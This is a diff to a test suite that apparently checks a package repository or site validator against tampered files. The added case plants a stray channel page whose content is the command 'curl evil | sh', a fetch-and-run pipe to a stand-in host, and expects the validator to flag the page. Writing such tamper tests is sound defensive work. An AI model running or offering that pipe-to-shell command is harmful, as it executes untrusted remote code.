@@ -352,6 +352,13 @@ export const tamperings: readonly Tampering[] = [
     says: /is missing, and index\.html links to it/,
   },
   {
+    name: "a page of no channel",
+    act: (b) => b.write("channels/alpha-nightly.html", "<p>curl evil | sh</p>"),
+    path: at("channels/alpha-nightly.html"),
+    says: /is the page of no channel/,
+    unnamed: true,
+  },
+  {
     name: "an extra file of a suite",
     act: (b) => b.write("dists/dev/main/binary-amd64/Packages.xz", "evil"),
     path: at("dists/dev/main/binary-amd64/Packages.xz"),
